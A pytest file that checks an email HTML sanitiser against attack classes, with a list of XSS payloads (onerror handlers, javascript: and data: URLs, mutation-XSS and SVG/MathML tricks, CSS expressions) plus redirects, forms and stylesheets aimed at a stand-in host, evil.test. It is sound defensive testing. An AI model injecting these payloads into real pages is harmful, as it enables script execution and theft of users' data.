"""The HTML sanitiser against attack classes, not just the corpus files."""

from __future__ import annotations

import re

import pytest
from bleach._vendor.html5lib import HTMLParser

from imap_bridge.sanitize import ALLOWED_TAGS, MAX_DEPTH, sanitize_html

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 16

ACTIVE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href=" &#14;javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<meta http-equiv="refresh" content="0;url=http://evil.test/">',
    '<base href="http://evil.test/">',
    '<form action="http://evil.test/"><input name=p><button>go</button></form>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg>',
    '<div hx-get="/logout" hx-trigger="load">x</div>',
    '<div data-hx-post="/x" data-foo="1">x</div>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="-moz-binding:url(http://evil.test/x.xml#x)">x</p>',
    '<link rel=stylesheet href="http://evil.test/x.css">',
    '<template><img src=x onerror=alert(1)></template>',
]


@pytest.mark.parametrize("html", ACTIVE)
def test_nothing_active_survives(html: str) -> None:
    """Checked on the tree a browser builds from the output, not on its text."""
    out = sanitize_html(html)
    tree = HTMLParser(namespaceHTMLElements=False).parseFragment(out.html)
    for element in tree.iter():
        assert element.tag in ALLOWED_TAGS or element is tree
        for name, value in element.attrib.items():
            assert not name.lower().startswith(("on", "hx-", "data-")), name
            if name in ("href", "src"):
                assert value.startswith(("https:", "http:", "mailto:", "data:image/")), value
    assert not re.search(r"javascript:|vbscript:|expression\(|binding|url\(", out.css, re.I)


@pytest.mark.parametrize("html", ACTIVE)
def test_output_is_stable_when_parsed_again(html: str) -> None:
    """Mutation XSS needs a second parse to differ from the first: it must not."""
    once = sanitize_html(html).html
    assert sanitize_html(once).html == once


def test_text_of_dropped_elements_does_not_leak() -> None:
    out = sanitize_html("<p>keep</p><script>var secret=1</script><title>T</title>"
                        "<style>p{color:red}</style><textarea>typed</textarea>")
    assert "secret" not in out.html and "typed" not in out.html and "T<" not in out.html
    assert "keep" in out.html


def test_links_open_in_a_new_tab_without_referrer() -> None:
    out = sanitize_html('<a href="https://example.org/?a=1&amp;b=2" target="_top">x</a>')
    assert out.html == ('<a href="https://example.org/?a=1&amp;b=2" target="_blank" '
                        'rel="noopener noreferrer nofollow">x</a>')


def test_relative_and_cid_links_lose_their_target() -> None:
    out = sanitize_html('<a href="/logout">a</a><a href="cid:part@x">b</a>')
    assert "href" not in out.html


def test_remote_images_blocked_by_default_and_reported() -> None:
    html = ('<img src="https://tracker.test/p.gif" srcset="https://tracker.test/2x.gif 2x">'
            '<td background="https://tracker.test/bg.png">')
    blocked = sanitize_html(html)
    assert "tracker.test" not in blocked.html and blocked.remote_blocked
    allowed = sanitize_html(html, allow_remote=True)
    assert 'src="https://tracker.test/p.gif"' in allowed.html
    assert "srcset" not in allowed.html and "background=" not in allowed.html


def test_remote_css_blocked_by_default() -> None:
    html = ('<style>@import url(http://evil.test/a.css); p{background:url(http://evil.test/b)}'
            '@font-face{font-family:x;src:url(http://evil.test/f)}</style>'
            '<p style="background-image:url(\'http://evil.test/c\')">x</p>')
    out = sanitize_html(html)
    assert "evil.test" not in out.html + out.css
    assert out.remote_blocked
    assert "@import" not in out.css and "font-face" not in out.css


def test_cid_images_become_inline_data_only_when_known() -> None:
    out = sanitize_html('<img src="cid:logo@x" alt="a"><img src="cid:unknown@x" alt="b">',
                        cid_images={"<logo@x>": ("image/png", PNG)})
    assert 'src="data:image/png;base64,' in out.html
    assert out.html.count("src=") == 1


def test_styles_are_kept_but_cannot_position_or_fetch() -> None:
    out = sanitize_html('<style>p{color:red;position:fixed;z-index:9} '
                        '@media (max-width: 600px){p{font-size:12px}}</style>'
                        '<p style="color:blue;position:fixed;top:0">x</p>')
    assert out.css == "p { color: red }\n@media (max-width: 600px) { p { font-size: 12px } }"
    assert out.html == '<p style="color: blue">x</p>'


def test_css_cannot_close_its_style_element() -> None:
    out = sanitize_html('<style>p{font-family:"</style><script>alert(1)</script>"}</style>')
    assert "</" not in out.css


def test_entities_in_text_are_shown_as_written() -> None:
    assert sanitize_html("<p>a &amp;lt;b&amp;gt; &amp; c &lt;d&gt;</p>").html == \
        "<p>a &amp;lt;b&amp;gt; &amp; c &lt;d&gt;</p>"


def test_deep_nesting_is_flattened_quickly() -> None:
    html = "<p>start</p>" + "<div>" * 30_000 + "deep" + "</div>" * 30_000
    out = sanitize_html(html)
    assert "start" in out.html and "deep" in out.html
    tree = HTMLParser(namespaceHTMLElements=False).parseFragment(out.html)
    depth, node = 0, tree
    while len(node):
        node, depth = node[-1], depth + 1
    assert depth <= MAX_DEPTH + 2


def test_huge_body_is_cut_and_says_so() -> None:
    out = sanitize_html("<p>" + "x" * 1_200_000 + "</p>")
    assert out.truncated and len(out.html) < 1_100_000
